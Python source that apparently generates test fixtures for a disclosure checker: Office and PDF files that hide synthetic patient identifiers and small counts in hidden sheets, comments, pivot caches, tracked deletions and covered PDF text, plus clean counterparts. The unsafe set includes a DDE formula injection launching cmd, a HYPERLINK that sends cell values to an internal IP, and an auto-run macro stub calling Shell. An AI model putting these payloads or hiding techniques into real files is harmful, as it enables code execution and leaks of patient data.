"""Excel, Word and PDF with hidden and embedded things, and their honest neighbours."""

import io
import zipfile

import pikepdf
import xlsxwriter
from docx import Document
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Cm
from openpyxl import Workbook
from openpyxl.chart import BarChart, Reference, ScatterChart, Series
from openpyxl.comments import Comment
from openpyxl.styles import Font, PatternFill
from openpyxl.worksheet.datavalidation import DataValidation
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

from .tools import grid, held, ipp, name, nir, rng


def book(rows, title="Résultats"):
    wb = Workbook()
    wb.properties.creator = ""
    ws = wb.active
    ws.title = title
    for row in rows:
        ws.append(row)
    for c in ws[1]:
        c.font = Font(bold=True)
        c.fill = PatternFill("solid", fgColor="DDEBF7")
    ws.column_dimensions["A"].width = 34
    return wb, ws


def doc(title, *paras, table=None):
    d = Document()
    d.core_properties.author = ""
    d.core_properties.comments = ""
    d.core_properties.last_modified_by = ""
    d.add_heading(title, 1)
    for t in paras:
        d.add_paragraph(t)
    if table:
        t = d.add_table(0, len(table[0]))
        t.style = "Light Grid Accent 1"
        for row in table:
            for c, v in zip(t.add_row().cells, row):
                c.text = str(v)
    return d


def patched(path, extra):
    """Adds parts to a package that has been written."""
    with zipfile.ZipFile(path) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    parts.update(extra(parts))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for k, v in parts.items():
            z.writestr(k, v)


def sheet(c, lines, x=(60, 300, 400)):
    for i, row in enumerate(lines):
        for j, v in enumerate(row):
            c.drawString(x[j], 740 - 20 * i, str(v))


def write(shelf):
    r = rng(shelf, "office")
    units = [
        "Médecine interne",
        "Cardiologie",
        "Pneumologie",
        "Néphrologie",
        "Gastro-entérologie",
        "Neurologie",
        "Rhumatologie",
        "Gériatrie",
    ]
    base = [["Unité", "Séjours", "DMS", "Réadmissions 30 j (%)"]] + [
        [u, int(r.integers(700, 3000)), round(float(r.uniform(4, 10)), 1), round(float(r.uniform(8, 15)), 1)]
        for u in units
    ]
    # ---------- unsafe
    p = shelf.unsafe(
        "office/very_hidden.xlsx",
        "rows of stays in a very hidden sheet",
        "sheet 'src'",
        "Indicateurs par unité.",
        "15 000 séjours",
    )
    wb, ws = book(base)
    h = wb.create_sheet("src")
    h.sheet_state = "veryHidden"
    h.append(["num", "age", "sexe", "dp", "duree"])
    for i in range(240):
        h.append(
            [
                i + 1,
                int(r.integers(18, 89)),
                "MF"[int(r.integers(2))],
                f"K{int(r.integers(20, 90))}",
                int(r.integers(1, 30)),
            ]
        )
    wb.save(p)
    p = shelf.unsafe(
        "office/hidden_column.xlsx",
        "hospital numbers in a hidden column",
        "column E",
        "Mean costs per DRG.",
        "12 900 stays",
    )
    wb, ws = book(
        [["DRG", "Stays", "Mean cost (€)", "SD", "last_id"]]
        + [
            [
                f"0{k}M0{k}",
                int(r.integers(900, 2400)),
                int(r.integers(2000, 9000)),
                int(r.integers(900, 4000)),
                ipp(shelf, f"hc{k}"),
            ]
            for k in range(1, 9)
        ],
        "Costs",
    )
    ws.column_dimensions["E"].hidden = True
    wb.save(p)
    p = shelf.unsafe(
        "office/hidden_row.xlsx",
        "a small cell in a hidden row",
        "row 7: 4",
        "Effectifs par stade, cancers de la thyroïde.",
        "1 816 patients",
    )
    wb, ws = book(
        [
            ["Stade", "Patients", "Âge médian"],
            ["I", 1102, 44],
            ["II", 388, 58],
            ["III", 201, 61],
            ["IVa", 77, 66],
            ["IVb", 44, 68],
            ["Inconnu", 4, 57],
        ]
    )
    ws.row_dimensions[7].hidden = True
    wb.save(p)
    p = shelf.unsafe(
        "office/format_masque.xlsx",
        "a number format hides a small cell",
        "C5 = 3 with format ;;;",
        "Complications by surgeon group.",
        "2 410 operations",
    )
    wb, ws = book(
        [
            ["Complication", "Group A (n=1,190)", "Group B (n=1,220)"],
            ["Bleeding", 61, 74],
            ["Infection", 48, 52],
            ["Reoperation", 39, 44],
            ["Nerve injury", 12, 3],
        ],
        "Compl",
    )
    ws["C5"].number_format = ";;;"
    wb.save(p)
    p = shelf.unsafe(
        "office/comment.xlsx",
        "the birth date of a patient in a cell comment",
        "comment on B4",
        "Délais de prise en charge par filière.",
        "3 900 patients",
    )
    wb, ws = book(
        [
            ["Filière", "Patients", "Délai médian (j)", "Q1", "Q3"],
            ["Sein", 1810, 21, 15, 29],
            ["Côlon", 1244, 24, 17, 35],
            ["Poumon", 846, 28, 19, 41],
        ]
    )
    ws["B4"].comment = Comment(f"revoir le patient né le 1{r.integers(0, 9)}/04/1948, perdu de vue", "")
    wb.save(p)
    p = shelf.unsafe(
        "office/pivot.xlsx",
        "the cache of a pivot table keeps the rows",
        "xl/pivotCache/pivotCacheRecords1.xml",
        "Pivot of stays by unit.",
        "15 000 stays",
    )
    wb, ws = book(base, "Pivot")
    wb.save(p)
    rec = "".join(
        f'<r><s v="{ipp(shelf, f"pv{i}")}"/><n v="{int(r.integers(18, 89))}"/><s v="{"MF"[int(r.integers(2))]}"/><n v="{int(r.integers(1, 40))}"/></r>'
        for i in range(90)
    )
    patched(
        p,
        lambda q: {
            "xl/pivotCache/pivotCacheRecords1.xml": f'<?xml version="1.0" encoding="UTF-8"?><pivotCacheRecords xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="90">{rec}</pivotCacheRecords>',
            "[Content_Types].xml": q["[Content_Types].xml"]
            .decode()
            .replace(
                "</Types>",
                '<Override PartName="/xl/pivotCache/pivotCacheRecords1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheRecords+xml"/></Types>',
            ),
        },
    )
    p = shelf.unsafe(
        "office/formula.xlsx",
        "formula injection",
        "D3",
        "Activité des consultations externes.",
        "21 000 consultations",
    )
    wb, ws = book(
        [
            ["Consultation", "2022", "2023", "Lien"],
            ["Douleur", 4011, 4270, ""],
            ["Sommeil", 2810, 3002, '=HYPERLINK("http://10.1.2.3/c?d="&B2&C2,"détail")'],
            ["Tabacologie", 1902, 2210, "=cmd|' /C calc'!A0"],
        ]
    )
    wb.save(p)
    p = shelf.unsafe(
        "office/macro.xlsm", "a macro", "xl/vbaProject.bin", "Workbook of quarterly indicators.", "15 000 stays"
    )
    wb, ws = book(base, "Q")
    wb.save(p)
    patched(
        p,
        lambda q: {
            "xl/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
            + bytes(504)
            + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\nShell "cmd"\r\nEnd Sub\r\n'
            + bytes(900),
            "[Content_Types].xml": q["[Content_Types].xml"]
            .decode()
            .replace("spreadsheetml.sheet.main+xml", "x")
            .replace(
                "application/vnd.openxmlformats-officedocument.x",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            )
            .replace(
                "</Types>",
                '<Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            ),
        },
    )
    p = shelf.unsafe(
        "office/tracked.docx",
        "a tracked deletion still names a patient",
        "w:del in paragraph 2",
        "Section résultats de l'article.",
        "2 040 patients",
    )
    d = doc("Résultats", "La cohorte compte 2 040 patients (52 % de femmes), d'âge médian 64 ans (Q1-Q3 : 53-75).")
    para = d.add_paragraph("Le critère principal est survenu chez 402 patients (19,7 %). ")
    de = OxmlElement("w:del")
    de.set(qn("w:id"), "9")
    de.set(qn("w:author"), "")
    de.set(qn("w:date"), "2024-02-01T09:00:00Z")
    run = OxmlElement("w:r")
    tx = OxmlElement("w:delText")
    tx.text = f"Par exemple, Mme {name(shelf, 'trk')} a rechuté deux fois."
    run.append(tx)
    de.append(run)
    para._p.append(de)
    d.save(p)
    p = shelf.unsafe(
        "office/embedded.docx",
        "an embedded workbook with rows",
        "word/embeddings/Microsoft_Excel_Sheet1.xlsx",
        "Report with the figure of quarterly activity.",
        "8 100 stays",
    )
    d = doc("Quarterly activity", "Stays rose from 1,940 in Q1 to 2,110 in Q4 2023.")
    d.save(p)
    wb, ws = book(
        [["stay", "age", "sex", "los"]]
        + [[i, int(r.integers(18, 89)), "MF"[int(r.integers(2))], int(r.integers(1, 25))] for i in range(1, 130)],
        "Sheet1",
    )
    b = io.BytesIO()
    wb.save(b)
    patched(
        p,
        lambda q: {
            "word/embeddings/Microsoft_Excel_Sheet1.xlsx": b.getvalue(),
            "[Content_Types].xml": q["[Content_Types].xml"]
            .decode()
            .replace(
                "</Types>",
                '<Default Extension="xlsx" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/></Types>',
            ),
            "word/_rels/document.xml.rels": q["word/_rels/document.xml.rels"]
            .decode()
            .replace(
                "</Relationships>",
                '<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/package" Target="embeddings/Microsoft_Excel_Sheet1.xlsx"/></Relationships>',
            ),
        },
    )
    p = shelf.unsafe(
        "office/vanish.docx",
        "hidden text holds small counts",
        "vanished run: 'dont 2 suicides'",
        "Paragraphe sur les événements indésirables.",
        "3 310 patients de psychiatrie",
    )
    d = doc("Événements indésirables", "Sur 3 310 patients, 214 (6,5 %) ont eu au moins un événement.")
    run = d.add_paragraph("Les motifs sont détaillés en annexe").add_run(", dont 2 patients décédés par suicide")
    run.font.hidden = True
    d.save(p)
    p = shelf.unsafe(
        "office/annotation.pdf",
        "an annotation of the PDF holds a hospital number",
        "sticky note on page 1",
        "Table of outcomes by age class.",
        "5 118 patients",
    )
    b = io.BytesIO()
    c = canvas.Canvas(b, pagesize=A4, invariant=1)
    c.setFont("Helvetica", 11)
    c.drawString(60, 780, "Outcomes by age class")
    sheet(c, [("Age", "Patients", "Deaths"), ("18-49", 1402, 61), ("50-69", 1996, 188), ("70 and over", 1720, 344)])
    c.save()
    with pikepdf.open(b) as d:
        d.pages[0].Annots = d.make_indirect(
            pikepdf.Array(
                [
                    d.make_indirect(
                        pikepdf.Dictionary(
                            Type=pikepdf.Name.Annot,
                            Subtype=pikepdf.Name.Text,
                            Rect=[400, 700, 420, 720],
                            Contents=f"check IPP {ipp(shelf, 'note')}",
                        )
                    )
                ]
            )
        )
        d.save(p)
    p = shelf.unsafe(
        "office/covered.pdf",
        "a black box over text that is still in the page",
        "box over line 4: NIR",
        "Compte rendu de l'étude de faisabilité (bloc noirci).",
        "1 250 patients éligibles",
    )
    c = canvas.Canvas(str(p), pagesize=A4, invariant=1)
    c.setFont("Helvetica", 11)
    for i, t in enumerate(
        (
            "Étude de faisabilité",
            "Patients éligibles : 1 250 ; joignables : 1 004 ; intéressés : 611.",
            "Délai médian de réponse : 12 jours (Q1-Q3 : 7-21).",
            f"Exemple de dossier testé : NIR {nir(shelf, 'cov')}",
        )
    ):
        c.drawString(60, 780 - 24 * i, t)
    c.rect(200, 702, 240, 18, fill=1)
    c.save()

    # ---------- safe
    p = shelf.safe(
        "office/indicateurs.xlsx",
        "formulas, frozen panes and conditional formats",
        "Indicateurs annuels par unité, avec total calculé.",
        "Plus de 700 séjours par unité",
    )
    w = xlsxwriter.Workbook(str(p))
    ws = w.add_worksheet("Indicateurs")
    bold = w.add_format({"bold": True, "bg_color": "#DDEBF7"})
    for j, t in enumerate(base[0]):
        ws.write(0, j, t, bold)
    for i, row in enumerate(base[1:], 1):
        for j, v in enumerate(row):
            ws.write(i, j, v)
    ws.write(9, 0, "Total", bold)
    ws.write_formula(9, 1, "=SUM(B2:B9)", None, sum(x[1] for x in base[1:]))
    ws.freeze_panes(1, 1)
    ws.set_column(0, 0, 26)
    ws.conditional_format("D2:D9", {"type": "3_color_scale"})
    w.close()
    p = shelf.safe(
        "office/regression.xlsx",
        "estimates, ranks and two sheets that are shown",
        "Multivariable models of two outcomes.",
        "7 304 patients; 810 deaths, 1 204 readmissions",
    )
    wb, ws = book(
        [["Variable", "OR", "2.5 %", "97.5 %", "p"]]
        + [
            [v, o, round(o * 0.84, 2), round(o * 1.19, 2), q]
            for v, o, q in (
                ("Age, per 10 y", 1.31, "<0.001"),
                ("Male", 1.08, "0.21"),
                ("Diabetes", 1.27, "0.004"),
                ("CKD", 1.66, "<0.001"),
                ("COPD", 1.49, "<0.001"),
            )
        ],
        "Death",
    )
    s2 = wb.create_sheet("Readmission")
    for row in [
        ["Variable", "OR", "2.5 %", "97.5 %", "p"],
        ["Age, per 10 y", 1.05, 0.99, 1.11, "0.09"],
        ["Male", 1.02, 0.9, 1.16, "0.74"],
        ["Diabetes", 1.33, 1.15, 1.54, "<0.001"],
        ["CKD", 1.41, 1.2, 1.66, "<0.001"],
    ]:
        s2.append(row)
    wb.save(p)
    p = shelf.safe(
        "office/graphique.xlsx",
        "a chart of aggregates",
        "Évolution annuelle des consultations, avec graphique.",
        "Plus de 8 000 consultations par an",
    )
    wb, ws = book(
        [["Année", "Présentiel", "Téléconsultation"]]
        + [[str(y), int(r.integers(8000, 11000)), int(r.integers(600, 2600))] for y in range(2017, 2024)]
    )
    ch = BarChart()
    ch.add_data(Reference(ws, min_col=2, max_col=3, min_row=1, max_row=8), titles_from_data=True)
    ch.set_categories(Reference(ws, min_col=1, min_row=2, max_row=8))
    ws.add_chart(ch, "F2")
    wb.save(p)
    p = shelf.safe(
        "office/effectifs_rh.xlsx",
        "small numbers are posts and beds",
        "Staff posts and beds per ward.",
        "No patients; 9 wards",
    )
    wb, ws = book(
        [["Ward", "Beds", "Nurse posts (FTE)", "Beds per nurse", "Vacancy rate of posts (%)"]]
        + [
            [
                f"Ward {k}",
                int(r.integers(12, 32)),
                round(float(r.uniform(14, 31)), 1),
                round(float(r.uniform(0.8, 1.4)), 2),
                round(float(r.uniform(3, 9)), 1),
            ]
            for k in "ABCDEFGHI"
        ],
        "Posts",
    )
    wb.save(p)
    p = shelf.safe(
        "office/validation.xlsx",
        "a validation list of codes",
        "Dictionnaire des variables de l'étude, avec liste de choix.",
        "Aucun patient",
    )
    wb, ws = book(
        [
            ["Variable", "Libellé", "Type", "Modalités"],
            ["sexe", "Sexe", "catégorielle", "1 = homme ; 2 = femme"],
            ["asa", "Score ASA", "ordinale", "1 à 5"],
            ["imc", "Indice de masse corporelle", "continue", "kg/m²"],
            ["mrs90", "Rankin à 90 jours", "ordinale", "0 à 6"],
            ["deces30", "Décès à 30 jours", "binaire", "0 = non ; 1 = oui"],
        ],
        "Dictionnaire",
    )
    dv = DataValidation(type="list", formula1='"catégorielle,ordinale,continue,binaire"')
    ws.add_data_validation(dv)
    dv.add("C2:C6")
    wb.save(p)
    p = shelf.safe(
        "office/table1.docx",
        "a table of large cells",
        "Table 1 and main results of the cohort.",
        "4 016 patients, two groups of 2 008",
    )
    t = [
        ["", "Early (n = 2,008)", "Late (n = 2,008)", "P"],
        ["Age, median (IQR)", "66 (55-76)", "67 (55-76)", "0.62"],
        ["Women", f"{held(964, 2008)} (48.0%)", f"{held(944, 2008)} (47.0%)", "0.53"],
        ["Septic shock", f"{held(602, 2008)} (30.0%)", f"{held(643, 2008)} (32.0%)", "0.16"],
        ["Death at day 28", f"{held(402, 2008)} (20.0%)", f"{held(462, 2008)} (23.0%)", "0.021"],
    ]
    doc(
        "Table 1. Baseline and outcome", "Values are number (%) unless stated; SOFA ranges from 0 to 24.", table=t
    ).save(p)
    p = shelf.safe(
        "office/figure.docx",
        "a picture of a table inside",
        "Note avec le tableau des performances en image.",
        "6 300 images, 3 centres",
    )
    d = doc("Performances", "Trois centres et un modèle, 6 300 images (1 270 positives).")
    b = io.BytesIO()
    grid(
        "Performances",
        ["Centre", "Sensibilité (%)", "Spécificité (%)", "Kappa"],
        [
            ["Centre 1", "81", "90", "0,71"],
            ["Centre 2", "78", "92", "0,70"],
            ["Centre 3", "84", "87", "0,69"],
            ["Modèle", "86", "89", "0,74"],
        ],
    ).save(b, "PNG")
    b.seek(0)
    d.add_picture(b, width=Cm(12))
    d.save(p)
    p = shelf.safe(
        "office/methods.docx",
        "years, versions, folds and thresholds in prose",
        "Methods section of the manuscript.",
        "No new result; 12 480 patients in total",
    )
    doc(
        "Statistical analysis",
        "We included 12,480 adults admitted from 2016 to 2023. Missing values (3.2% of laboratory values) were imputed with 10 imputations.",
        "Models were fitted in R 4.3.1 with 5-fold cross-validation repeated 4 times; splines had 4 knots. Cells below 10 are not reported.",
        "Two-sided p-values below 0.05 were considered significant; 7 sensitivity analyses were prespecified.",
    ).save(p)
    p = shelf.safe(
        "office/outline.pdf",
        "bookmarks and an internal link",
        "Rapport annuel de la cellule d'identitovigilance, avec sommaire.",
        "182 000 venues, 2023",
    )
    c = canvas.Canvas(str(p), pagesize=A4, invariant=1)
    c.setTitle("Identitovigilance 2023")
    for k, (h, lines) in enumerate(
        (
            (
                "Activité",
                [
                    ("Indicateur", "2022", "2023"),
                    ("Venues", "176 400", "182 000"),
                    ("Identités qualifiées (%)", "71", "79"),
                    ("Doublons traités", "1 204", "988"),
                ],
            ),
            ("Formation", [("Indicateur", "2022", "2023"), ("Sessions", "8", "9"), ("Agents formés", "412", "466")]),
        )
    ):
        c.bookmarkPage(f"s{k}")
        c.addOutlineEntry(h, f"s{k}", 0)
        c.setFont("Helvetica-Bold", 14)
        c.drawString(60, 780, h)
        c.setFont("Helvetica", 11)
        sheet(c, lines)
        c.showPage()
    c.save()
    p = shelf.safe(
        "office/survie.pdf",
        "a table of survival on a yearly grid",
        "Overall survival by period with intervals.",
        "10 040 patients with ovarian cancer",
    )
    c = canvas.Canvas(str(p), pagesize=A4, invariant=1)
    c.setTitle("Survival by period")
    c.setFont("Helvetica", 11)
    c.drawString(60, 780, "Overall survival, % (95% CI)")
    sheet(
        c,
        [
            ("Period (patients)", "3 years", "5 years"),
            ("2005-2010 (3,102)", "58 (56-60)", "41 (39-43)"),
            ("2011-2016 (3,540)", "62 (60-64)", "45 (43-47)"),
            ("2017-2022 (3,398)", "66 (64-68)", "49 (47-51)"),
            ("Log-rank p for trend", "", "< 0.001"),
        ],
    )
    c.save()
    p = shelf.safe(
        "office/scatter_centres.xlsx",
        "points of a chart are hospitals",
        "Volume and adjusted mortality ratio of 22 hospitals (public aggregates, each above 400 stays).",
        "22 hospitals, 31 000 stays",
    )
    wb, ws = book(
        [["Hospital", "Stays", "Standardised mortality ratio"]]
        + [[f"Hospital {i}", int(r.integers(420, 3000)), round(float(r.normal(1, 0.08)), 2)] for i in range(1, 23)],
        "SMR",
    )
    ch = ScatterChart()
    ch.style = 13
    s = Series(
        Reference(ws, min_col=3, min_row=2, max_row=23), Reference(ws, min_col=2, min_row=2, max_row=23), title="SMR"
    )
    s.marker.symbol = "circle"
    s.graphicalProperties.line.noFill = True
    ch.series.append(s)
    ws.add_chart(ch, "E2")
    wb.save(p)
    p = shelf.safe(
        "office/bilan_infections.docx",
        "rates and counts, all large",
        "Bilan annuel des infections associées aux soins.",
        "61 000 séjours, 1 842 infections",
    )
    assert 602 + 511 + 402 + 327 == 1842
    doc(
        "Infections associées aux soins 2023",
        "Nous avons observé 1 842 infections pour 61 014 séjours (3,0 %), contre 1 911 en 2022.",
        table=[
            ["Site", "Infections", "Pour 1 000 journées"],
            ["Urinaire", 602, "1,6"],
            ["Respiratoire", 511, "1,4"],
            ["Site opératoire", 402, "1,1"],
            ["Bactériémie", 327, "0,9"],
        ],
    ).save(p)
